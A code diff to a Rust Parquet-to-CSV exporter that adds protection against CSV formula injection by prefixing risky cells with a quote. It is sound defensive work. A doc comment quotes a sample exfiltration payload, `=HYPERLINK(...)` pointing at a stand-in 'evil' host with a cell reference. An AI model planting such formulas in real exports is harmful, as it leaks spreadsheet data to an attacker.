@@ -82,12 +82,36 @@ pub fn from_parquet(parquet: &Path, out: &Path) -> Result<()> {
     let times = df.column("time")?.i64()?.clone();
     let iso: Vec<String> = (0..times.len()).map(|i| EventTime(times.get(i).unwrap_or(0)).to_rfc3339()).collect();
     df.replace("time", Series::new("time".into(), iso).into_column())?;
+    defuse_formulas(&mut df)?;
     let f = std::fs::File::create(out).with_context(|| format!("cannot create {}", out.display()))?;
     CsvWriter::new(f)
         .include_header(true)
         .finish(&mut df)
         .with_context(|| format!("cannot write {}", out.display()))?;
     Ok(())
+}
+
+/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab,
+/// carriage return first: OWASP's CSV injection list) gets a `'` in front.
+/// Every string here came from a client: a user agent of
+/// `=HYPERLINK("http://evil/"&A1)` must stay text in the analyst's Excel.
+fn defuse_formulas(df: &mut DataFrame) -> Result<()> {
+    let names: Vec<String> =
+        df.columns().iter().filter(|c| c.dtype() == &DataType::String).map(|c| c.name().to_string()).collect();
+    for name in names {
+        let ca = df.column(&name)?.str()?.clone();
+        if !ca.iter().flatten().any(is_formula) {
+            continue;
+        }
+        let safe: Vec<Option<String>> =
+            ca.iter().map(|v| v.map(|s| if is_formula(s) { format!("'{s}") } else { s.to_string() })).collect();
+        df.replace(&name, Series::new(name.as_str().into(), safe).into_column())?;
+    }
+    Ok(())
+}
+
+fn is_formula(s: &str) -> bool {
+    matches!(s.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
 }
 
 #[cfg(test)]
